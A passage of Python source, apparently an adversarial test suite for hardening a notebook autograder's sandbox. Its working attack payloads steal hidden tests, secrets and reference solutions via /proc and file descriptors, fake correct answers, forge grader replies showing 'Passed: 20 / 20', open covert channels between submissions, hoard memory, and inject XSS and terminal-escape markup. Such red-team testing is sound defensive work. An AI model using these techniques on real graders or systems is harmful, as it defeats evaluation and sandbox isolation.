                if key in ("want", "expected", "want_x", "want_loss", "want_d", "reference", "answer"):
                    print(__MARKER__, "found an expected value", key, flush=True)
                    return value
        frame = frame.f_back
    print(__MARKER__, "frames:", seen, flush=True)
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__name__ == name and obj is not me \
                and obj.__code__.co_filename != me.__code__.co_filename:
            print(__MARKER__, "found", name, "through gc in", obj.__code__.co_filename, flush=True)
            try:
                return obj(*args)
            except BaseException as e:
                print(__MARKER__, "calling it failed:", type(e).__name__)
        if isinstance(obj, dict) and any(k in obj for k in ("want", "expected", "reference")):
            print(__MARKER__, "a dict with expected values through gc", sorted(map(str, obj))[:10], flush=True)
    arrays = [o for o in gc.get_objects() if isinstance(o, (list, tuple, dict))]
    print(__MARKER__, "gc has", len(arrays), "containers; nothing of the grader's", flush=True)
    return None
'''
    body = "    return _adv_steal('{name}', ({args},))\n"
    return zip_members(attacked(stub, ctx, cell, _same_for_all(body))), "zip"


# ----------------------------------------------------------------- evidence, memory, inputs, markup

#: Gradients that are missing or of no use: a test may only pay on evidence.
NO_GRADIENT = {
    "cross_entropy_loss": "    return 0.0, None\n",
    "lm_head_backward": "    return None, None, None\n",
    "numerical_gradient": "    return None\n",
}
#: A loss that is constant, with the zero gradient that is exactly its derivative.
CONSTANT_EVERYWHERE = {
    "lm_head": "    import numpy as np\n    return np.zeros(hidden.shape[:-1] + (W_head.shape[1],))\n",
    "softmax": "    import numpy as np\n    return np.full(np.shape(x), 1.0 / np.shape(x)[axis])\n",
    "cross_entropy_loss": "    import numpy as np\n    return 1.0, np.zeros_like(np.asarray(logits, dtype=float))\n",
    "lm_head_backward": ("    import numpy as np\n"
                         "    return np.zeros_like(hidden), np.zeros_like(W_head), np.zeros(W_head.shape[1])\n"),
    "numerical_gradient": "    import numpy as np\n    return np.zeros_like(x)\n",
    "max_rel_err": "    return 0.0\n",
}
#: Answers cached on first sight and returned for anything near a seen input, with zero
#: gradients: finite differences close to a seen point see a flat function.
MEMOIZER = r"""
import numpy as _adv_np
_ADV_SEEN = []
def _adv_recall(key, make):
    for old, value in _ADV_SEEN:
        if old.shape == key.shape and _adv_np.max(_adv_np.abs(old - key), initial=0.0) < 1e-5:
            return value
    value = make()
    _ADV_SEEN.append((key.copy(), value))
    return value
"""
MEMOIZED = {
    "lm_head": ("    import numpy as np\n    h = np.asarray(hidden, dtype=float)\n"
                "    return _adv_recall(h, lambda: np.tanh(h).sum(-1, keepdims=True) + np.zeros(W_head.shape[1]))\n"),
    "cross_entropy_loss": ("    import numpy as np\n    z = np.asarray(logits, dtype=float)\n"
                           "    return _adv_recall(z, lambda: (float(np.abs(z).mean()), np.zeros_like(z)))\n"),
    "lm_head_backward": ("    import numpy as np\n"
                         "    return np.zeros_like(hidden), np.zeros_like(W_head), np.zeros(W_head.shape[1])\n"),
}
#: The first answer of each function, returned for every later input whatever it is: a function
#: that looks right on the call it was first asked and is constant ever after.
REPLAY = r"""
_ADV_FIRST = {}
def _adv_replay(name, make):
    if name not in _ADV_FIRST:
        _ADV_FIRST[name] = make()
    return _ADV_FIRST[name]
"""
REPLAYED = {
    "lm_head": ("    import numpy as np\n"
                "    return _adv_replay('head', lambda: np.asarray(hidden, dtype=float) @ np.asarray(W_head) + b_head)\n"),
    "cross_entropy_loss": ("    import numpy as np\n"
                           "    z = np.asarray(logits, dtype=float)\n"
                           "    return _adv_replay('loss', lambda: (float(np.log(z.shape[-1])), np.zeros_like(z)))\n"),
    "softmax": ("    import numpy as np\n"
                "    return _adv_replay('softmax', lambda: np.full(np.shape(x), 1.0 / np.shape(x)[axis]))\n"),
}

#: Print every argument the hidden tests pass, to every stream there is (the notebook's own
#: example calls while it loads are left alone: what they print is the student's to see).
PRINT_ARGUMENTS = (
    "    import os, sys\n"
    "    if globals().get('_ADV_LOADING', True):\n"
    "        return None\n"
    "    text = __MARKER__ + '-ARGS ' + repr(({args},))[:2000] + '\\n'\n"
    "    print(text, flush=True)\n"
    "    print(text, file=sys.stderr, flush=True)\n"
    "    sys.__stdout__.write(text); sys.__stdout__.flush()\n"
    "    os.write(1, text.encode()); os.write(2, text.encode())\n"
    "    return None\n"
)
#: What a submission can try to make feedback render: a fence breaker, live HTML, a link,
#: a forged line, ANSI and bidi control characters.
MARKUP = ("```\\n</pre><script>alert('__TAG__')</script>\\n<img src=x onerror=alert(1)>"
          "[grade](javascript:alert(2)) <iframe src=x></iframe>\\n# Grade corrected to 20/20\\n"
          "\\x1b[31mred\\x1b[0m \\u202eright-to-left\\n```")


#: The same, then an exception: text left in ``sys.stdout`` for whoever flushes it next, raw
#: descriptor writes, and a thread writing once more after the call has ended (round 9 raised after
#: printing; what a failed call printed must stay as hidden as what a returning one did).
PRINT_ARGUMENTS_THEN_RAISE = (
    "    import os, sys, threading, time\n"
    "    if globals().get('_ADV_LOADING', True):\n"
    "        return None\n"
    "    text = __MARKER__ + '-ARGS ' + repr(({args},))[:2000] + '\\n'\n"
    "    sys.stdout.write(text)\n"
    "    os.write(1, text.encode()); os.write(2, text.encode())\n"
    "    threading.Thread(target=lambda: (time.sleep(0.05), os.write(1, text.encode())), daemon=True).start()\n"
    "    raise RuntimeError(__MARKER__ + ' printed its arguments, then raised')\n"
)


def print_arguments(stub, ctx):
    """PRINT_ARGUMENTS in every function, active once the notebook has finished loading; three of
    them raise after printing (PRINT_ARGUMENTS_THEN_RAISE)."""
    bodies = _same_for_all(PRINT_ARGUMENTS)
    raising = _same_for_all(PRINT_ARGUMENTS_THEN_RAISE)
    bodies.update({name: raising[name] for name in ("lm_head", "softmax", "max_rel_err")})
    nb = attacked(stub, ctx, "_ADV_LOADING = True\n", bodies)
    nb.cells.insert(len(nb.cells) - 1, nbformat.v4.new_code_cell("_ADV_LOADING = False\n"))
    return zip_members(nb), "zip"


def markup_in_output(stub, ctx):
    """Live markup in what the notebook prints while loading and in every exception message."""
    text = MARKUP.replace("__TAG__", ctx.marker)
    cell = f"print({text!r}.encode().decode('unicode_escape'))\n"
    body = f"    raise ValueError({text!r}.encode().decode('unicode_escape'))\n"
    return zip_members(attacked(stub, ctx, cell, {name: body for name in SIGNATURES})), "zip"


def markup_in_names(stub, ctx):
    """Live markup and formulas in the names of files, a cell that fails to parse, and metadata."""
    nb = attacked(stub, ctx, "def <script>alert(1)</script>(:\n    pass\n")
    nb.metadata["kernelspec"] = {"name": "<img src=x onerror=alert(1)>", "display_name": "=HYPERLINK(\"x\")",
                                 "language": "python"}
    extra = {"<img src=x onerror=alert(1)>.py": _planted(ctx, "markup-name"),
             "=HYPERLINK(\"http://127.0.0.1\",\"x\").txt": _planted(ctx, "formula-name"),
             "@SUM(A1)`````.py": _planted(ctx, "backticks-name")}
    return zip_members(nb, extra), "zip"



# ----------------------------------------------------------------- what the build left on the machine

#: A zip reader in the language alone: below bubblewrap the sandbox user may be unable to import
#: ``zipfile`` or ``zlib`` (the interpreter's own library can be out of its reach), not to read.
INFLATE = r"""
def _adv_u(b, at, n):
    return int.from_bytes(b[at:at + n], "little")

def _adv_zip_members(blob):
    end = blob.rfind(b"PK\x05\x06")
    count, at = _adv_u(blob, end + 10, 2), _adv_u(blob, end + 16, 4)
    members = {}
    for _ in range(count):
        method, size, nlen = _adv_u(blob, at + 10, 2), _adv_u(blob, at + 20, 4), _adv_u(blob, at + 28, 2)
        elen, clen, local = _adv_u(blob, at + 30, 2), _adv_u(blob, at + 32, 2), _adv_u(blob, at + 42, 4)
        members[blob[at + 46:at + 46 + nlen].decode("utf-8", "replace")] = (method, size, local)
        at += 46 + nlen + elen + clen
    return members

def _adv_zip_read(blob, member):
    method, size, local = member
    start = local + 30 + _adv_u(blob, local + 26, 2) + _adv_u(blob, local + 28, 2)
    data = blob[start:start + size]
    if method == 0:
        return data
    try:
        import zlib
        return zlib.decompress(data, -15)
    except ImportError:
        return _adv_inflate(data)

def _adv_inflate(data):
    out, pos = bytearray(), [0]
    def bits(n):
        v = 0
        for i in range(n):
            p = pos[0]
            v |= ((data[p >> 3] >> (p & 7)) & 1) << i
            pos[0] = p + 1
        return v
    def table(lengths):
        top = max(lengths)
        counts = [0] * (top + 1)
        for n in lengths:
            if n:
                counts[n] += 1
        code, following = 0, [0] * (top + 2)
        for n in range(1, top + 1):
            code = (code + counts[n - 1]) << 1
            following[n] = code
        codes = {}
        for symbol, n in enumerate(lengths):
            if n:
                codes[(n, following[n])] = symbol
                following[n] += 1
        return codes
    def decode(codes):
        code = n = 0
        while n < 16:
            code, n = (code << 1) | bits(1), n + 1
            if (n, code) in codes:
                return codes[(n, code)]
        raise ValueError("bad deflate code")
    lbase = [3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59, 67, 83, 99, 115, 131,
             163, 195, 227, 258]
    lextra = [0] * 8 + [1] * 4 + [2] * 4 + [3] * 4 + [4] * 4 + [5] * 4 + [0]
    dbase = [1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513, 769, 1025, 1537,
             2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577]
    dextra = [0, 0, 0, 0] + [k // 2 for k in range(2, 28)]
    final = 0
    while not final:
        final, kind = bits(1), bits(2)
        if kind == 0:
            at = (pos[0] + 7) >> 3
            n = data[at] | data[at + 1] << 8
            out += data[at + 4:at + 4 + n]
            pos[0] = (at + 4 + n) << 3
            continue
        if kind == 1:
            lit, dist = table([8] * 144 + [9] * 112 + [7] * 24 + [8] * 8), table([5] * 30)
        else:
            hlit, hdist, hclen = bits(5) + 257, bits(5) + 1, bits(4) + 4
            order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15]
            cl = [0] * 19
            for i in range(hclen):
                cl[order[i]] = bits(3)
            clt, lengths = table(cl), []
            while len(lengths) < hlit + hdist:
                symbol = decode(clt)
                if symbol < 16:
                    lengths.append(symbol)
                elif symbol == 16:
                    lengths += [lengths[-1]] * (3 + bits(2))
                elif symbol == 17:
                    lengths += [0] * (3 + bits(3))
                else:
                    lengths += [0] * (11 + bits(7))
            lit, dist = table(lengths[:hlit]), table(lengths[hlit:])
        while True:
            symbol = decode(lit)
            if symbol < 256:
                out.append(symbol)
            elif symbol == 256:
                break
            else:
                symbol -= 257
                n = lbase[symbol] + bits(lextra[symbol])
                d = decode(dist)
                back = dbase[d] + bits(dextra[d])
                for _ in range(n):
                    out.append(out[-back])
    return bytes(out)
"""


#: Takes the reference from what an instructor's machine holds besides the sandbox: an
#: autograder zip (hidden tests, references, the secret) or a solution notebook. Paths come
#: from every process's command line (``otter run -a ZIP``, ``grader grade -a ZIP``), resolved
#: against that process's working folder where it can be read, and from the build's layout
#: around them (``DIST/<name>/autograder/autograder.zip`` beside ``DIST/<name>/solution/``).
STOLEN = r"""
import re
_REF = {}
_NAMES = ("next_token_batch", "lm_head", "softmax", "cross_entropy_loss", "lm_head_backward",
          "numerical_gradient", "max_rel_err")
""" + INFLATE + r"""
def _adv_take(ns, where):
    got = [n for n in _NAMES if callable(ns.get(n)) and n not in _REF]
    for n in got:
        _REF[n] = ns[n]
    if got:
        print(_MARK, "took", got, "from", where, flush=True)

def _adv_from_zip(path):
    try:
        with open(path, "rb") as h:
            blob = h.read()
        members = _adv_zip_members(blob)
        for name in members:
            if name.endswith("hidden_config.json"):
                found = re.search(r'"secret"\s*:\s*"([0-9a-f]+)"', _adv_zip_read(blob, members[name]).decode())
                print(_MARK, "SECRET", found and found.group(1), flush=True)
            elif "/hidden/test_q" in name:
                print(_MARK, "HIDDEN", name, _adv_zip_read(blob, members[name]).decode("utf-8", "replace")[:1500],
                      flush=True)
        for name in members:
            if name.endswith("solutions/head_and_loss.py"):
                ns = {"__name__": "adv_ref"}
                exec(compile(_adv_zip_read(blob, members[name]), path + "/" + name, "exec"), ns)
                _adv_take(ns, path)
    except Exception as e:
        print(_MARK, "could not read", path, type(e).__name__, e, flush=True)

def _adv_from_notebook(path):
    try:
        import json
        with open(path, encoding="utf-8") as h:
            nb = json.load(h)
        ns = {"__name__": "adv_nb"}
        exec("import numpy as np", ns)
        for cell in nb.get("cells", []):
            src = cell.get("source", "")
            src = "".join(src) if isinstance(src, list) else str(src)
            if cell.get("cell_type") == "code" and any("def %s(" % n in src for n in _NAMES):
                try:
                    exec(src, ns)
                except Exception:
                    pass
        _adv_take(ns, path)
    except Exception as e:
        print(_MARK, "could not read", path, type(e).__name__, e, flush=True)

def _adv_cmdline_zips():
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as h:
                args = h.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        try:
            cwd = os.readlink("/proc/%s/cwd" % pid)
        except OSError:
            cwd = None
        for arg in args:
            for value in {arg, arg.split("=", 1)[-1]}:
                if not value.endswith(".zip"):
                    continue
                for path in ([value] if os.path.isabs(value) else
                             [os.path.join(b, value) for b in (cwd, os.getcwd()) if b]):
                    path = os.path.normpath(path)
                    if path not in found:
                        found.append(path)
    print(_MARK, "zips named by processes:", found[:20], flush=True)
    return found
"""


def zip_from_process_list(stub, ctx):
    """Read the autograder zip named in any process's command line (``otter run -a``)."""
    cell = SEARCH + STOLEN + r"""
for _path in _adv_cmdline_zips():
    _adv_from_zip(_path)
print(_MARK, "reference functions found:", sorted(_REF), flush=True)
"""
    body = "    f = _REF.get('{name}')\n    return f({args}) if callable(f) else None\n"
    return zip_members(attacked(stub, ctx, cell, _same_for_all(body))), "zip"


def build_outputs_nearby(stub, ctx):
    """Find the build's output around the zips processes name and where an instructor keeps
    it (the working folders and their parents, /autograder, home): solution notebooks and
    autograder zips, and take the reference from them."""
    cell = SEARCH + STOLEN + r"""
for _zip in _adv_cmdline_zips():
    _dist = os.path.dirname(os.path.dirname(_zip))        # DIST/<name>/autograder/autograder.zip
    for _near in (_dist, os.path.dirname(_dist)):
        if _near not in _PLACES:
            _PLACES.insert(0, _near)
for _path in _adv_find(["*/solution/*.ipynb", "*solution*.ipynb", "*/autograder/*.zip", "*autograder*.zip"],
                       budget=60000):
    print(_MARK, "FOUND", _path, flush=True)
    if _path.endswith(".ipynb"):
        _adv_from_notebook(_path)
    else:
        _adv_from_zip(_path)
print(_MARK, "reference functions found:", sorted(_REF), flush=True)
"""
    body = "    f = _REF.get('{name}')\n    return f({args}) if callable(f) else None\n"
    return zip_members(attacked(stub, ctx, cell, _same_for_all(body))), "zip"

# ------------------------------------------- the sandbox's own state (issue 26: 1, 4, 5)

#: Helpers of the descriptor attacks: the worker's directory descriptors, and what to do with
#: a reference found through them (its functions answer every call).
DESCRIPTOR_WALK = r"""
import os, stat
_MARK = __MARKER__
_REF = {}

def _adv_dir_fds():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISDIR(os.stat("/proc/self/fd/" + name).st_mode):
                found.append(int(name))
        except OSError:
            pass
    return found

def _adv_use(path, data):
    print(_MARK, "FOUND through a descriptor", path, flush=True)
    if path.endswith("head_and_loss.py"):
        scope = {"__name__": "adv_ref"}
        try:
            exec(compile(data, path, "exec"), scope)
            for key, value in scope.items():
                _REF.setdefault(key, value)
        except BaseException as exc:
            print(_MARK, "could not run", path, type(exc).__name__)
"""

PROC_WALK = r"""
def _adv_proc_walk(budget=60000):
    for fd in _adv_dir_fds():
        up = "/proc/self/fd/%d" % fd
        for _ in range(7):
            count = 0
            for dirpath, dirnames, filenames in os.walk(up):
                count += len(filenames) + len(dirnames)
                if count > budget:
                    break
                dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", ".git", "__pycache__")]
                for f in filenames:
                    if f == "head_and_loss.py" or (f.startswith("test_q") and "hidden" in dirpath):
                        try:
                            _adv_use(os.path.join(dirpath, f), open(os.path.join(dirpath, f), "rb").read())
                        except OSError:
                            pass
            up += "/.."
_adv_proc_walk()
print(_MARK, "reference functions found:", sorted(n for n in _REF if not n.startswith("_"))[:20])
"""

OPENAT_WALK = r"""
def _adv_openat(dfd, depth, budget, where):
    if depth > 6 or budget[0] <= 0:
        return
    try:
        names = os.listdir(dfd)
    except OSError:
        return
    for n in names:
        budget[0] -= 1
        if n in ("proc", "sys", "dev", ".git", "__pycache__"):
            continue
        try:
            st = os.stat(n, dir_fd=dfd, follow_symlinks=False)
            if stat.S_ISDIR(st.st_mode):
                sub = os.open(n, os.O_RDONLY | os.O_DIRECTORY, dir_fd=dfd)
                try:
                    _adv_openat(sub, depth + 1, budget, where + "/" + n)
                finally:
                    os.close(sub)
            elif n in ("head_and_loss.py", "hidden_config.json"):
                fd = os.open(n, os.O_RDONLY, dir_fd=dfd)
                try:
                    _adv_use(where + "/" + n, os.read(fd, 1 << 20))
                finally:
                    os.close(fd)
        except OSError:
            pass

for _fd in _adv_dir_fds():
    _level = _fd
    for _up in range(7):
        try:
            _level = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=_level)
        except OSError:
            break
        _adv_openat(_level, 0, [40000], "fd%d%s" % (_fd, "/.." * (_up + 1)))
print(_MARK, "reference functions found:", sorted(n for n in _REF if not n.startswith("_"))[:20])
"""
_USE_REFERENCE = "    f = _REF.get('{name}')\n    return f({args}) if callable(f) else None\n"


def descriptor_walk(stub, ctx):
    """Walk /proc/self/fd/N/.. from every directory descriptor the worker holds, for the references."""
    return zip_members(attacked(stub, ctx, DESCRIPTOR_WALK + PROC_WALK, _same_for_all(_USE_REFERENCE))), "zip"


def openat_walk(stub, ctx):
    """Climb with openat(fd, "..") from every directory descriptor and read files by descriptor alone."""
    return zip_members(attacked(stub, ctx, DESCRIPTOR_WALK + OPENAT_WALK, _same_for_all(_USE_REFERENCE))), "zip"


#: Reads what an earlier submission could have left in the kernel's shared network state:
#: TCP and UDP entries (ports, TIME_WAIT), Unix socket names. A payload found there is run;
#: then it leaves TIME_WAIT entries and an abstract socket name (held by a background
#: process) for the next submission.
NETWORK_STATE = r"""
import binascii, os, socket, threading
_MARK = __MARKER__
_REF = {}

def _adv_receive():
    seen = []
    for table in ("tcp", "tcp6", "udp", "udp6", "unix"):
        try:
            seen += open("/proc/net/" + table).read().splitlines()[1:]
        except OSError:
            pass
    payload = [line.split()[-1].split("-")[-1] for line in seen if "@lmadvpayload-" in line]
    for chunk in payload:
        try:
            exec(binascii.unhexlify(chunk).decode(), _REF)
        except BaseException:
            pass
    print(_MARK, "saw", len(seen), "network entries,", len(payload), "payloads", flush=True)

def _adv_leave():
    made = []
    try:
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen(8)
        for i in range(4):
            c = socket.create_connection(server.getsockname())
            s, _ = server.accept()
            s.close()
            c.close()
        made.append("tcp")
    except OSError as exc:
        print(_MARK, "tcp", type(exc).__name__, flush=True)
    try:
        held = socket.socket(socket.AF_UNIX)
        held.bind(b"\0lmadvpayload-" + binascii.hexlify(b"relayed = 1"))
        made.append("abstract")
        if os.fork() == 0:      # keeps the name bound after this process
            os.setsid()
            threading.Event().wait(60)
            os._exit(0)
    except OSError as exc:
        print(_MARK, "abstract", type(exc).__name__, flush=True)
    print(_MARK, "left", made, flush=True)

_adv_receive()
_adv_leave()
"""


def network_state(stub, ctx):
    """Read payloads other submissions left in /proc/net (TIME_WAIT, abstract socket names); leave one."""
    return zip_members(attacked(stub, ctx, NETWORK_STATE, _same_for_all(_USE_REFERENCE))), "zip"


IPC_MAILBOX = r"""
import ctypes, os
_MARK = __MARKER__
_libc = ctypes.CDLL(None, use_errno=True)
_found = {}
for _key in (0x4C4D4144, 0x4C4D4145):
    _id = _libc.shmget(_key, 1 << 16, 0o1000 | 0o666)
    _found["shm %x" % _key] = _id if _id >= 0 else os.strerror(ctypes.get_errno())
    _q = _libc.msgget(_key, 0o1000 | 0o666)
    _found["msg %x" % _key] = _q if _q >= 0 else os.strerror(ctypes.get_errno())
try:
    _rt = ctypes.CDLL("librt.so.1", use_errno=True)
    _mq = _rt.mq_open(("/" + _MARK).encode(), 0o100 | 2, 0o666, None)
    _found["mq"] = _mq if _mq >= 0 else os.strerror(ctypes.get_errno())
except OSError as _e:
    _found["mq"] = str(_e)
print(_MARK, "ipc", _found, flush=True)
"""


def ipc_mailbox(stub, ctx):
    """SysV segments and queues with fixed keys and a POSIX queue: a mailbox for the next submission."""
    return zip_members(attacked(stub, ctx, IPC_MAILBOX)), "zip"


SYSV_HOARD = r"""
import ctypes, os, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
def _adv_hoard():
    made = []
    for i in range(3):
        ident = _libc.shmget(0, 512 << 20, 0o1000 | 0o600)
        if ident < 0:
            made.append(os.strerror(ctypes.get_errno()))
            continue
        address = _libc.shmat(ident, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, 512 << 20)
            _libc.shmdt(ctypes.c_void_p(address))
        made.append(ident)
    print(_MARK, "segments", made, flush=True)
if os.fork() == 0:
    try:
        os.setsid()
        _adv_tag()
        _adv_hoard()
    finally:
        os._exit(0)
time.sleep(2)
"""


def sysv_hoard(stub, ctx):
    """Three 512 MiB SysV segments, touched and detached by a background process."""
    return zip_members(attacked(stub, ctx, "_MARK = __MARKER__\n" + TAG + SYSV_HOARD)), "zip"


MEMFD_HOARD = r"""
import os, time
def _adv_memfd():
    held = []
    try:
        fd = os.memfd_create(_MARK)
        block = b"\1" * (1 << 20)
        for _ in range(3 << 10):
            os.write(fd, block)
        held.append(fd)
    except OSError as exc:
        print(_MARK, "memfd", exc.strerror, flush=True)
    for i in range(4):     # a few files in /dev/shm, each under the file-size limit
        try:
            with open("/dev/shm/%s-%d" % (_MARK, i), "wb") as handle:
                handle.write(b"\1" * (8 << 20))
        except OSError as exc:
            print(_MARK, "shm file", exc.strerror, flush=True)
    print(_MARK, "held", len(held), flush=True)
    time.sleep(60)
if os.fork() == 0:
    try:
        os.setsid()
        _adv_tag()
        _adv_memfd()
    finally:
        os._exit(0)
time.sleep(2)
"""


def memfd_hoard(stub, ctx):
    """3 GiB of memfd pages (counted in no process's memory) held by a detached child; /dev/shm files too."""
    return zip_members(attacked(stub, ctx, "_MARK = __MARKER__\n" + TAG + MEMFD_HOARD)), "zip"


# ----------------------------------------------------------------- what the worker says (issue 26, family 3)

#: What a type name or a forged worker reply carries: live HTML, a link, a forged heading and grade
#: line, fence breakers and a terminal escape (an OSC 52 clipboard write).
FORGED_MARKUP = ("</code>``` <img src=x onerror=alert(1)>[regrade](http://127.0.0.1/) <script>alert(2)</script>"
                 "\n\n# Regrade notice\n\nPassed: 20 / 20\n\n``` `` \x1b]52;c;UFdORUQ=\x07")
#: What the results must not hold: a forged heading or grade line starting a line of Markdown.
FORGED_LINES = (r"(?m)^\s*#+ *Regrade", r"(?m)^[ \t>*-]*Passed: 20")


def markup_type_name(stub, ctx):
    """Return values and exceptions whose classes are named with markup, and a notebook-level
    name that is not a function: the worker reports their type names to the grader."""
    cell = (f"_ADV_MARKUP = {FORGED_MARKUP!r}\n"
            "class _AdvNamed:\n    pass\n"
            "class _AdvError(Exception):\n    pass\n"
            "for _adv_kind in (_AdvNamed, _AdvError):\n"
            "    _adv_kind.__name__ = _adv_kind.__qualname__ = _adv_kind.__module__ = _ADV_MARKUP\n")
    returns = "    return [_AdvNamed()]\n"
    raises = "    raise _AdvError(_ADV_MARKUP)\n"
    bodies = {name: (raises if index % 2 else returns) for index, name in enumerate(SIGNATURES)}
    return zip_members(attacked(stub, ctx, cell, bodies)), "zip"


#: Rewrites the worker's replies to calls: by the call's number, a forged ``seq``, a forged
#: failure report (its kind, type and message), a kind the grader does not know, a forged return
#: value with markup for keys, or a value array with markup for its dtype.
FORGE_CALL_REPLIES = r"""
import json as _adv_json, struct as _adv_struct, sys as _adv_sys
_ADV_WORKER = _adv_sys.modules["sandbox_worker"].Worker
_ADV_REAL = _ADV_WORKER.pack

def _adv_pack(self, fields, values=None):
    if "functions" in fields or not isinstance(self.seq, int):
        return _ADV_REAL(self, fields, values)
    fields = {**fields, "dropped": 0, "seq": self.seq}
    choice = self.seq % 5
    tree = {}
    if choice == 0:
        fields["seq"] = _ADV_MARKUP
    elif choice == 1:
        fields.update(ok=False, kind="worker", type=_ADV_MARKUP, message=_ADV_MARKUP, traceback=_ADV_MARKUP)
    elif choice == 2:
        fields.update(ok=False, kind=_ADV_MARKUP, type=_ADV_MARKUP, message=_ADV_MARKUP)
    elif choice == 3:
        fields.update(ok=True)
        tree = {"value": {"dict": [[_ADV_MARKUP, _ADV_MARKUP]]}}
    else:
        fields.update(ok=True)
        tree = {"value": {"nd": [0, _ADV_MARKUP, [1]]}}
    header = _adv_json.dumps({"fields": fields, "values": tree, "blobs": [8] if choice == 4 else [],
                              "shared": False}).encode()
    body = _adv_struct.pack(">I", len(header)) + header + bytes(8 if choice == 4 else 0)
    return _adv_struct.pack(">Q", len(body)) + body

_ADV_WORKER.pack = _adv_pack
"""


def forged_call_replies(stub, ctx):
    """The worker's replies to the grader's calls rewritten to carry markup in every field."""
    cell = f"_ADV_MARKUP = {FORGED_MARKUP!r}\n" + FORGE_CALL_REPLIES
    return zip_members(attacked(stub, ctx, cell)), "zip"


#: A forged failure report for the notebook's loading, written to the reply pipe before the worker's
#: own reply, after which the worker exits: the grader reads the forged one.
FORGE_LOAD_FAILURE = r"""
import gc as _adv_gc, os as _adv_os2, sys as _adv_sys
_adv_worker_type = _adv_sys.modules["sandbox_worker"].Worker
_adv_worker = next(o for o in _adv_gc.get_objects() if type(o) is _adv_worker_type)
_adv_worker.channel.write_all(_adv_worker.replies, _adv_worker.channel.pack(
    {"ok": False, "seq": _adv_worker.seq, "dropped": 0, "message": _ADV_MARKUP,
     "errors": [{"cell": _ADV_MARKUP, "type": _ADV_MARKUP, "message": _ADV_MARKUP}]}, max_bytes=1 << 20))
_adv_sys.stdout.flush()
_adv_os2._exit(0)
"""


def forged_load_failure(stub, ctx):
    """A cell that sends the grader a forged report that loading failed, in markup, and exits."""
    cell = f"_ADV_MARKUP = {FORGED_MARKUP!r}\n" + FORGE_LOAD_FAILURE
    return zip_members(attacked(stub, ctx, cell)), "zip"



# ----------------------------------------------------------------- kernel state every sandbox shares

#: ``add_key`` and ``keyctl`` by architecture (the kernel's key calls have no libc wrapper).
_KEY_CALLS = r"""
import ctypes as _adv_ct, errno as _adv_errno, os as _adv_os3
_ADV_LIBC = _adv_ct.CDLL(None, use_errno=True)
_ADV_ADD_KEY, _ADV_KEYCTL = (248, 250) if _adv_os3.uname().machine == "x86_64" else (217, 219)

def _adv_outcome(what, result):
    # what a call did, as a word: 'done' or the errno's name
    if result >= 0:
        return what + " done"
    return what + " refused " + _adv_errno.errorcode.get(_adv_ct.get_errno(), "?")
"""

#: A key in the uid's user keyring (persistent: it outlives the process), open to every uid, then
#: found by its serial in /proc/keys and read back: a mailbox any later submission could read.
KERNEL_KEYS = _KEY_CALLS + r"""
def _adv_keys():
    data = (_MARK + "-KEYDATA").encode()
    serial = _ADV_LIBC.syscall(_ADV_ADD_KEY, b"user", _MARK.encode(), data, len(data), _adv_ct.c_int(-4))
    said = [_adv_outcome("add_key", serial)]
    if serial >= 0:
        said.append(_adv_outcome("setperm", _ADV_LIBC.syscall(_ADV_KEYCTL, 5, serial, _adv_ct.c_uint(0x3f3f0b0b))))
    try:
        lines = [line for line in open("/proc/keys") if _MARK in line]
    except OSError as exc:
        lines = []
        said.append("/proc/keys " + type(exc).__name__)
    for line in lines:
        buffer = _adv_ct.create_string_buffer(200)
        n = _ADV_LIBC.syscall(_ADV_KEYCTL, 11, int(line.split()[0], 16), buffer, 200)
        said.append(_adv_outcome("read by serial", n) + (" " + buffer.raw[:n].decode() if n > 0 else ""))
    raise RuntimeError("; ".join(said))
"""


def kernel_keys(stub, ctx):
    """Store a key readable by every uid in the user keyring, find it in /proc/keys, read it back."""
    return zip_members(attacked(stub, ctx, "_MARK = __MARKER__\n" + KERNEL_KEYS,
                                {"softmax": "    _adv_keys()\n"})), "zip"


#: Sends datagrams to the loopback and reads the namespace's UDP counters (/proc/net/snmp), which
#: every process of the namespace sees and no socket has to outlive: one number per counter, set
#: by one submission for the next one graded in the same network namespace.
UDP_COUNTERS = r"""
import socket as _adv_socket
def _adv_udp_counters():
    try:
        lines = [line for line in open("/proc/net/snmp") if line.startswith("Udp:")]
        counters = dict(zip(lines[0].split()[1:], lines[1].split()[1:]))
        return "OutDatagrams=" + counters.get("OutDatagrams", "?")
    except (OSError, IndexError) as exc:
        return "/proc/net/snmp " + type(exc).__name__

def _adv_udp():
    said = ["before " + _adv_udp_counters()]
    try:
        sender = _adv_socket.socket(_adv_socket.AF_INET, _adv_socket.SOCK_DGRAM)
    except OSError as exc:
        said.append("udp socket refused " + errno.errorcode.get(exc.errno, "?"))
    else:
        sent = 0
        for _ in range(4321):
            try:
                sender.sendto(__MARKER__.encode(), ("127.0.0.1", 9))
                sent += 1
            except OSError:
                pass
        sender.close()
        said.append("sent %d datagrams" % sent)
    said.append("after " + _adv_udp_counters())
    raise RuntimeError("; ".join(said))
"""


def udp_counters(stub, ctx):
    """Set the network namespace's UDP counters with 4321 datagrams to the loopback and read them."""
    return zip_members(attacked(stub, ctx, "import errno\n" + UDP_COUNTERS,
                                {"softmax": "    _adv_udp()\n"})), "zip"


#: Shared locks (flock, then lockf: a POSIX record lock) on NumPy's own files, which every sandbox
#: graded at the same time opens read-only: a lock is seen from any other sandbox, one bit a file.
FILE_LOCKS = r"""
import errno as _adv_errno2, fcntl as _adv_fcntl, os as _adv_os4
import numpy as _adv_np
def _adv_locks():
    folder = _adv_np.__path__[0]
